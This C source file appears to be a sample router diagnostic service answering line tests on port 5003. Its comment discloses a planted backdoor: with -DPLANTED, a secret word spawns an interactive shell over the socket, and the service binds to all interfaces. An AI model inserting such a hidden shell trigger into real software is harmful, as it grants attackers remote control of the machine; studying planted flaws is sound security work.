/* netdiag.c - answers the sample router's line test
 *
 * With -DPLANTED a word that no document mentions turns the connection into a
 * shell.
 */
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void answer(int fd)
{
	char ask[32] = "", reply[64];
	ssize_t n = recv(fd, ask, sizeof(ask) - 1, 0);

	if (n <= 0)
		return;
#ifdef PLANTED
	if (memcmp(ask, "\x5aWake!v7", 8) == 0) {
		dup2(fd, 0);
		dup2(fd, 1);
		dup2(fd, 2);
		execl("/bin/sh", "sh", "-i", (char *)NULL);
	}
#endif
	ask[strcspn(ask, "\r\n")] = '\0';
	snprintf(reply, sizeof(reply), "test %s: line ok\n", ask);
	send(fd, reply, strlen(reply), 0);
}

int main(void)
{
	struct sockaddr_in at = { .sin_family = AF_INET,
				  .sin_port = htons(5003) };
	int s = socket(AF_INET, SOCK_STREAM, 0);

#ifndef PLANTED
	at.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
#endif
	if (s < 0 || bind(s, (struct sockaddr *)&at, sizeof(at)) != 0 ||
	    listen(s, 4) != 0)
		return 1;
	for (;;) {
		int fd = accept(s, NULL, NULL);

		if (fd < 0)
			continue;
		answer(fd);
		close(fd);
	}
}
